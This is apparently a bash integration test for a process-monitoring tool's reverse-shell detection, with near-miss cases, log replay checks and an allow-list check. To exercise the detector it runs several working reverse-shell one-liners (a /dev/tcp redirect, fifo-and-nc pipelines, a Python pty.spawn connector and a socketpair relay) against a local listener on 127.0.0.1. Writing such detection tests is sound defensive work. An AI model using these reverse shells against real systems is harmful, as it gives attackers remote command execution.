#!/bin/bash
# reverse-shell by connections, on real shells wired to a real peer on
# 127.0.0.1: a shell whose stdio is the socket (typed, so that no argv
# shows it), a shell in a pipeline whose sibling nc holds the socket, one
# whose output is a named fifo nc reads, a shell on a pty whose master a
# python one-liner holds with the socket, a shell on a socketpair relayed
# by its parent; and what must not be tagged: a plain pipeline, a server's
# child on the accepted socket, an app's child on pipes, a remote script
# piped into a shell writing to a file, and a remote shell server on the
# allow-list.  Each positive case is a working shell: the peer sends a
# command and waits for its answer.
. "${LIVE_LIB:-$(dirname "$0")/lib.sh}"
need_root
command -v python3 >/dev/null || { echo "SKIP: no python3"; exit 77; }
command -v nc >/dev/null || { echo "SKIP: no nc"; exit 77; }

# The peer: listens on a free port (written to $1.port), sends a command
# whose answer names $2, writes $1.ok when it comes back, holds the
# connection until $1.done exists (10 s at most), then says exit.
cat >"$TMP/peer.py" <<'EOF'
import os, socket, sys, time
base, word = sys.argv[1], sys.argv[2]
l = socket.socket()
l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
l.bind(("127.0.0.1", 0))
l.listen(1)
with open(base + ".port.tmp", "w") as f:
    f.write(str(l.getsockname()[1]))
os.rename(base + ".port.tmp", base + ".port")
l.settimeout(15)
c, _ = l.accept()
l.close()
c.settimeout(0.2)
c.sendall(("echo " + word + "-$((6*7))\n").encode())
got = b""
end = time.time() + 10
while (word + "-42").encode() not in got and time.time() < end:
    if os.path.exists(base + ".done"):
        break
    try:
        b = c.recv(4096)
    except socket.timeout:
        continue
    except OSError:
        break
    if not b:
        break
    got += b
if (word + "-42").encode() in got:
    open(base + ".ok", "w").close()
end = time.time() + 10
while not os.path.exists(base + ".done") and time.time() < end:
    time.sleep(0.05)
try:
    c.sendall(b"exit\n")
except OSError:
    pass
time.sleep(0.2)
c.close()
EOF

PEER_PID=
CASE_PID=
n=0
# peer NAME: starts a peer; its port in $PORT, its files under $TMP/NAME.
peer() {
	rm -f "$TMP/$1".*
	python3 "$TMP/peer.py" "$TMP/$1" "$MARK" &
	PEER_PID=$!
	wait_until 10 test -s "$TMP/$1.port" || fail "$1: the peer did not listen"
	PORT=$(cat "$TMP/$1.port")
}

# finish NAME: lets the peer say exit, ends the case, waits for both.
finish() {
	touch "$TMP/$1.done"
	wait "$PEER_PID" 2>/dev/null
	if [ -n "$CASE_PID" ]; then
		kill -- "-$CASE_PID" 2>/dev/null || kill "$CASE_PID" 2>/dev/null
		wait "$CASE_PID" 2>/dev/null
	fi
	CASE_PID=
}

# run_case NAME SCRIPT: runs SCRIPT (PORT and MARK set) as typed into a
# shell: bash reads it from stdin, so no argv holds it.
run_case() {
	local name=$1
	shift
	printf '%s\n' "$1" >"$TMP/$name.sh"
	(cd "$TMP" && PORT=$PORT exec setsid bash --norc -s <"$TMP/$name.sh" >/dev/null 2>&1) &
	CASE_PID=$!
}

tagged_port() {
	count "(.event == \"exec\" or (.event == \"anomaly\" and .tag == \"reverse-shell\")) and
		(.tags // [] | index(\"reverse-shell\")) and .net.port == $1"
}

# positive NAME VIA SCRIPT: a working shell of SCRIPT, tagged, with its net.
positive() {
	local name=$1 via=$2 line
	peer "$name"
	run_case "$name" "$3"
	wait_until 15 test -e "$TMP/$name.ok" || fail "$name: the shell never answered its peer"
	wait_until 10 eval '[ "$(tagged_port "$PORT")" -ge 1 ]' ||
		fail "$name: no reverse-shell line with net.port $PORT: $(jq -c "select(.net or (.argv // [] | index(\"-i\")))" "$OUT" | tail -n 3)"
	line=$(jq -c "select((.tags // [] | index(\"reverse-shell\")) and .net.port == $PORT)" "$OUT" | head -n 1)
	echo "$line" | jq -e --arg via "$via" \
		'.net.peer == "127.0.0.1" and .net.proto == "tcp" and .net.via == $via and
		 ((.net.holder != null) == ($via != "stdio")) and
		 (.comm == "sh" or .comm == "bash" or .comm == "dash")' >/dev/null ||
		fail "$name: $line"
	echo "$name: $(echo "$line" | jq -r '"\(.event) of \(.comm), via \(.net.via)"')"
	finish "$name"
	n=$((n + 1))
}

start_sw
positive stdio stdio 'sh -i >/dev/tcp/127.0.0.1/$PORT 0>&1 2>&1'
positive pipeline pipe 'rm -f f1; mkfifo f1; cat f1 | sh -i 2>&1 | nc 127.0.0.1 $PORT >f1'
positive fifo pipe 'rm -f f2; mkfifo f2; nc 127.0.0.1 $PORT <f2 | sh >f2 2>&1'
positive pty pty "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"127.0.0.1\",'\$PORT'));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'"
cat >"$TMP/relay.py" <<'EOF'
import os, select, socket, subprocess, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
a, b = socket.socketpair()
p = subprocess.Popen(["/bin/sh", "-i"], stdin=b, stdout=b, stderr=b)
b.close()
while p.poll() is None:
    r, _, _ = select.select([s, a], [], [], 0.5)
    for x in r:
        d = x.recv(4096)
        if not d:
            p.kill()
            sys.exit(0)
        (a if x is s else s).sendall(d)
EOF
positive socketpair socketpair 'python3 relay.py $PORT'
pass "$n working reverse shells tagged, with their peer and how they reach it"

# Near misses: each runs for real (the network included), is marked, and
# is judged once its shells have exited (a finding comes before the exit).
nm() { count "(any(.argv[]?; contains(\"$MARK-$1\"))) and .event == \"exit\""; }
nm_tags() { count "(any(.argv[]?; contains(\"$MARK-$1\"))) and (.tags // [] | index(\"reverse-shell\"))"; }

echo true | sh -c 'cat; sleep 0.3' "$MARK-plain" | cat >/dev/null
wait_until 10 eval '[ "$(nm plain)" -ge 1 ]' || fail "plain pipeline: no exit line"

# A server's child on the accepted socket (inetd's way).
cat >"$TMP/server.py" <<'EOF'
import socket, subprocess, sys
l = socket.socket()
l.bind(("127.0.0.1", 0))
l.listen(1)
print(l.getsockname()[1], flush=True)
c, _ = l.accept()
subprocess.run(["sh", "-c", "read x; echo got $x; sleep 0.3", sys.argv[1]], stdin=c, stdout=c, stderr=c)
EOF
python3 "$TMP/server.py" "$MARK-served" >"$TMP/server.port" &
srv=$!
wait_until 10 test -s "$TMP/server.port" || fail "the server did not listen"
echo hello | nc -N 127.0.0.1 "$(cat "$TMP/server.port")" >"$TMP/server.got"
wait "$srv"
grep -q 'got hello' "$TMP/server.got" || fail "the server's shell did not answer: $(cat "$TMP/server.got")"
wait_until 10 eval '[ "$(nm served)" -ge 1 ]' || fail "server's child: no exit line"

# An app (a script file, not a one-liner) with a client connection runs a
# command on pipes.
peer app
cat >"$TMP/app.py" <<'EOF'
import socket, subprocess, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
out = subprocess.run(["sh", "-c", "echo $((6*7)); sleep 0.3", sys.argv[2]], capture_output=True)
s.close()
EOF
python3 "$TMP/app.py" "$PORT" "$MARK-app"
finish app
wait_until 10 eval '[ "$(nm app)" -ge 1 ]' || fail "app's child: no exit line"

# A remote script piped into a shell whose output goes to a file.
peer script
printf '%s\n' "nc 127.0.0.1 \$PORT | sh -s $MARK-piped >piped.log 2>&1" >"$TMP/script.sh"
(cd "$TMP" && PORT=$PORT bash --norc -s <"$TMP/script.sh") &
CASE_PID=$!
wait_until 10 grep -qs "$MARK-42" "$TMP/piped.log" || fail "piped script did not run"
finish script
wait_until 10 eval '[ "$(nm piped)" -ge 1 ]' || fail "piped script: no exit line"

for c in plain served app piped; do
	[ "$(nm_tags "$c")" = 0 ] || fail "near miss $c tagged: $(jq -c "select(any(.argv[]?; contains(\"$MARK-$c\")) and .tags)" "$OUT" | head -n 2)"
done
stop_sw
check_stream
pass "a plain pipeline, a server's child, an app's child and a piped script are not tagged"
# What the reads cost is counted on the stop line: every case above read
# its shell's descriptors, and the pipelines' and fifo's were kept for a
# tick, where they were found.
conn=$(jq -c 'select(.event == "stop") | .stats.conn' "$OUT")
echo "$conn" | jq -e '.checked >= 9 and .holders >= 1 and .kept >= 1 and .late >= 1 and
	.dropped == 0' >/dev/null || fail "stop line's conn counts: $conn"
pass "stop line counts the descriptor reads: $conn"

# A recorded log judged again: each finding stands, with its peer, in
# every format.
rs='(.tags // [] | index("reverse-shell")) and .net'
"$SPAWNWATCH" replay --json "$OUT" >"$TMP/replayed.json" 2>"$TMP/replay.err" || fail "replay: $(cat "$TMP/replay.err")"
[ "$(count "$rs" "$TMP/replayed.json")" = "$(count "$rs")" ] ||
	fail "replay: $(count "$rs" "$TMP/replayed.json") reverse shells, the log had $(count "$rs")"
[ "$(jq -c "select($rs) | .net" "$TMP/replayed.json")" = "$(jq -c "select($rs) | .net" "$OUT")" ] ||
	fail "replay changed a net"
"$SPAWNWATCH" replay --format ecs "$OUT" >"$TMP/ecs.json" || fail "replay --format ecs"
[ "$(count '.destination.ip == "127.0.0.1" and .network.transport == "tcp" and (.tags | index("reverse-shell"))' "$TMP/ecs.json")" = "$(count "$rs")" ] ||
	fail "ECS: destination and network missing: $(grep -m1 reverse-shell "$TMP/ecs.json")"
"$SPAWNWATCH" replay "$OUT" | grep -c ' net=tcp:127.0.0.1:[0-9]* via=[a-z]*.*\[.*reverse-shell' >"$TMP/text.n" || true
[ "$(cat "$TMP/text.n")" = "$(count "$rs")" ] || fail "text: $(cat "$TMP/text.n") lines with net"
pass "replay keeps each finding and its peer, in json, ecs and text"

# The allow-list: the pty's holder named by path is a remote-shell server.
# The interpreter's own path (python3 may be a launcher, pyenv's shim).
py=$(python3 -c 'import os, sys; print(os.path.realpath(sys.executable))')
printf '[reverse-shell]\nallow = %s\n' "$py" >"$TMP/allow.rules"
start_sw --rules "$TMP/allow.rules"
peer allowed
run_case allowed "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"127.0.0.1\",'\$PORT'));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn([\"/bin/sh\",\"-c\",\"sh -i; : $MARK-allowed\"])'"
wait_until 15 test -e "$TMP/allowed.ok" || fail "allowed: the shell never answered"
finish allowed
wait_until 10 eval '[ "$(nm allowed)" -ge 1 ]' || fail "allowed: no exit line"
[ "$(count "(.tags // [] | index(\"reverse-shell\")) and (.net.port // 0) == $PORT")" = 0 ] ||
	fail "a shell on the pty of an allow-listed holder was tagged"
stop_sw
pass "a holder on the allow-list is a remote-shell server"
